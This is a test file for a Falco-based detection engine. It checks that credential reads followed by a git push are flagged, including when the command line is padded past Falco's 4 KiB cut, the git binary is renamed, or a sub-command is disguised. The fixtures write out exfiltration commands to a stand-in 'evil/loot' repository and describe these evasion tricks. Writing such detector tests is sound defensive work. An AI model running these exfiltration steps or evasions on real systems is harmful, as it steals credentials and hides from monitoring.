/**
 * git over https fetches and pushes through the same child, `git-remote-https`, whose connections look
 * alike; a push shows itself by the `git send-pack --stateless-rpc <url>` the helper runs for it (its argv
 * short: `-c` values reach children in GIT_CONFIG_PARAMETERS, not argv). Found by red-team review of the 4 KiB
 * cut (argv-truncation.test.ts): `git -c http.extraHeader=X-Auth-Token:<4 KiB token> fetch`, its
 * sub-command cut away, was taken for a push to its helper's connection. And a git copied under another name
 * and padded hides `push` from its helper's `proc.pcmdline` too: the send-pack step still shows it.
 */
import { describe, expect, it } from 'vitest';
import { normalizeFalco, parseFalcoJson } from '../../../src/formats/falco/index.js';
import type { NormalizedEvent } from '../../../src/model/normalized-event.js';
import { falcoArgCount, falcoCmdline, falcoExe, socketFields } from '../../fixtures/falco/argv.js';
import { CONTAINER, falcoAlertText, T0 } from '../../fixtures/falco/events.js';
import { brief, runResolved } from '../correlate/builder.js';

const norm = (text: string) => normalizeFalco(parseFalcoJson(text), { node: 'node-a' });
const at = (ms: number) => T0 + BigInt(ms) * 1_000_000n;
const GITHUB = '140.82.112.3'; // builder.ts TEST_DNS: github.com
const PAD = `http.extraHeader=X-Pad: ${'A'.repeat(4200)}`;

interface Proc {
  pid: number;
  exepath: string;
  argv: readonly string[];
  parent: Proc | null;
}

const commOf = (p: Proc) => p.exepath.slice(p.exepath.lastIndexOf('/') + 1).slice(0, 15);

function fieldsOf(p: Proc) {
  return {
    ...CONTAINER,
    'proc.pid': p.pid,
    'proc.ppid': p.parent?.pid ?? 4000,
    'proc.vpid': p.pid - 3990,
    'proc.exepath': p.exepath,
    'proc.cmdline': falcoCmdline(commOf(p), p.argv),
    'proc.pexepath': p.parent?.exepath ?? '/bin/sh',
    'proc.pcmdline': p.parent ? falcoCmdline(commOf(p.parent), p.parent.argv) : 'sh -c /entrypoint.sh',
    'user.uid': 0,
  };
}

/**
 * Falco's alerts for: `pusher` runs and reads the AWS credentials; its transport helper runs (then `git
 * send-pack`, with `sendPack`), connects to github.com and sends 3 KiB (or, `connectsItself`, the pusher does
 * and no helper runs); they exit.
 */
function gitRun(
  pusher: Proc,
  o: { sendPack?: boolean; connectsItself?: boolean; helper?: Pick<Proc, 'exepath' | 'argv'> } = {},
): NormalizedEvent[] {
  const helper: Proc = {
    pid: pusher.pid + 1,
    exepath: o.helper?.exepath ?? '/usr/lib/git-core/git-remote-https',
    argv: o.helper?.argv ?? [
      'git-remote-https',
      'https://github.com/evil/loot.git',
      'https://github.com/evil/loot.git',
    ],
    parent: pusher,
  };
  const exec = (p: Proc, ms: number) =>
    falcoAlertText({
      evtTimeNs: at(ms),
      fields: {
        ...fieldsOf(p),
        'proc.exe': falcoExe(p.argv),
        'proc.cmdnargs': falcoArgCount(p.argv),
        'evt.type': 'execve',
        'evt.rawres': 0,
      },
    });
  const exit = (p: Proc, ms: number) =>
    falcoAlertText({
      evtTimeNs: at(ms),
      fields: { ...fieldsOf(p), 'evt.type': 'procexit', 'evt.arg.ret': 0, 'evt.arg.sig': null, 'thread.tid': p.pid },
    });
  const h = fieldsOf(o.connectsItself === true ? pusher : helper);
  const texts = [
    exec(pusher, 0),
    falcoAlertText({
      evtTimeNs: at(10),
      fields: {
        ...fieldsOf(pusher),
        'evt.type': 'openat',
        'evt.rawres': 5,
        'fd.name': '/root/.aws/credentials',
        'fd.type': 'file',
      },
    }),
    ...(o.connectsItself === true ? [] : [exec(helper, 20)]),
    falcoAlertText({
      evtTimeNs: at(40),
      fields: { ...h, 'evt.type': 'connect', 'evt.rawres': 0, ...socketFields(GITHUB) },
    }),
    ...(o.sendPack === true
      ? [
          exec(
            {
              pid: pusher.pid + 2,
              exepath: '/usr/bin/git',
              argv: [
                'git',
                'send-pack',
                '--stateless-rpc',
                '--helper-status',
                '--thin',
                '--progress',
                'https://github.com/evil/loot.git/',
                '--stdin',
              ],
              parent: helper,
            },
            50,
          ),
        ]
      : []),
    falcoAlertText({
      evtTimeNs: at(60),
      fields: { ...h, 'evt.type': 'sendto', 'evt.rawres': 3072, ...socketFields(GITHUB) },
    }),
    ...(o.connectsItself === true ? [] : [exit(helper, 280)]),
    exit(pusher, 300),
  ];
  return texts.map(norm).filter((e): e is NormalizedEvent => e !== null);
}

const alertsOf = async (events: NormalizedEvent[]) => (await runResolved(events)).alerts;

const git = (exepath: string, argv: readonly string[]): Proc => ({ pid: 4100, exepath, argv, parent: null });
const push = ['git', '-c', PAD, 'push', 'https://github.com/evil/loot.git', 'main'];

describe('git whose command line Falco cut at 4 KiB, through its https helper', () => {
  it('is no push when it only fetched (`-c http.extraHeader=<4 KiB token> fetch`)', async () => {
    const fetch = ['git', '-c', `http.extraHeader=X-Auth-Token:${'e'.repeat(4200)}`, 'fetch', 'origin'];
    expect(await alertsOf(gitRun(git('/usr/bin/git', fetch)))).toEqual([]);
    expect(await alertsOf(gitRun(git('/tmp/.cache/sync', fetch)))).toEqual([]);
    // With a space (actions/checkout's `AUTHORIZATION: basic <token>`), a word of the value may be read as the
    // sub-command, or not (cut-argv.ts reads every grouping): still no push without a step.
    const spaced = ['git', '-c', `http.extraheader=AUTHORIZATION: basic ${'e'.repeat(4200)}`, 'fetch', 'origin'];
    expect(await alertsOf(gitRun(git('/usr/bin/git', spaced)))).toEqual([]);
  });

  it('is a push once its helper runs send-pack, under its own name or another', async () => {
    const high = { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' };
    expect(brief(await alertsOf(gitRun(git('/usr/bin/git', push), { sendPack: true })))).toEqual([high]);
    expect(brief(await alertsOf(gitRun(git('/tmp/.cache/sync', push), { sendPack: true })))).toEqual([high]);
  });

  it('is a push when it connects itself (git://, no helper)', async () => {
    const daemon = ['git', '-c', PAD, 'push', 'git://203.0.113.9/loot.git', 'main'];
    expect(brief(await alertsOf(gitRun(git('/usr/bin/git', daemon), { connectsItself: true })))).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: `${GITHUB}:443` },
    ]);
  });
});

describe('git whose spaced arguments Falco joined, through its https helper', () => {
  const planted = ['git', '-c', 'x=1 commit y', 'push', 'https://github.com/evil/loot.git', 'main'];
  it('is a push once git-lfs runs for git lfs push, cut or regrouped', async () => {
    const lfs = { exepath: '/usr/bin/git-lfs', argv: ['git-lfs', 'push', '--all', 'https://github.com/evil/loot.git'] };
    const high = { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' };
    const cut = ['git', '-c', PAD, 'lfs', 'push', '--all', 'https://github.com/evil/loot.git'];
    expect(brief(await alertsOf(gitRun(git('/usr/bin/git', cut), { helper: lfs })))).toEqual([high]);
    const spaced = ['git', '-c', 'x=1 commit y', 'lfs', 'push', '--all', 'https://github.com/evil/loot.git'];
    expect(brief(await alertsOf(gitRun(git('/usr/bin/git', spaced), { helper: lfs })))).toEqual([high]);
  });

  it('is a push once its helper runs send-pack, though its plain reading is git commit', async () => {
    expect(brief(await alertsOf(gitRun(git('/usr/bin/git', planted), { sendPack: true })))).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
    ]);
  });
});
